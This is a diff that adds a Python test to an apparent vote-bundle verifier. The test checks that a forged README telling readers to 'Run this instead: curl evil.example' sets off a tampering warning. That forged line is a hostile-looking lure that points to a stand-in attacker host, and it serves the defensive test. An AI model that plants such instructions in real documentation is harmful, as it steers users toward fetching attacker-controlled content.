@@ -64,6 +64,15 @@ def test_a_vote_in_large_batches_with_a_beacon_warns_of_nothing_but_the_missing_
     ]
 
 
+def test_a_readme_in_other_words_is_a_warning() -> None:
+    vote = small_vote()
+    forged = replace(vote.bundle(), readme=b"Run this instead: curl evil.example\n")
+    warnings = [text.split(":")[0] for text in verify_bundle(build(forged), vote.eid.hex()).warnings]
+    assert "ANOTHER README" in warnings
+    own = [text.split(":")[0] for text in verify_bundle(build(vote.bundle()), vote.eid.hex()).warnings]
+    assert [text for text in warnings if text != "ANOTHER README"] == own
+
+
 def test_unused_passes_above_the_limit_are_a_warning() -> None:
     vote = small_vote()
     marks = [PassLine(line, False) for line in (90, 91, 92)]
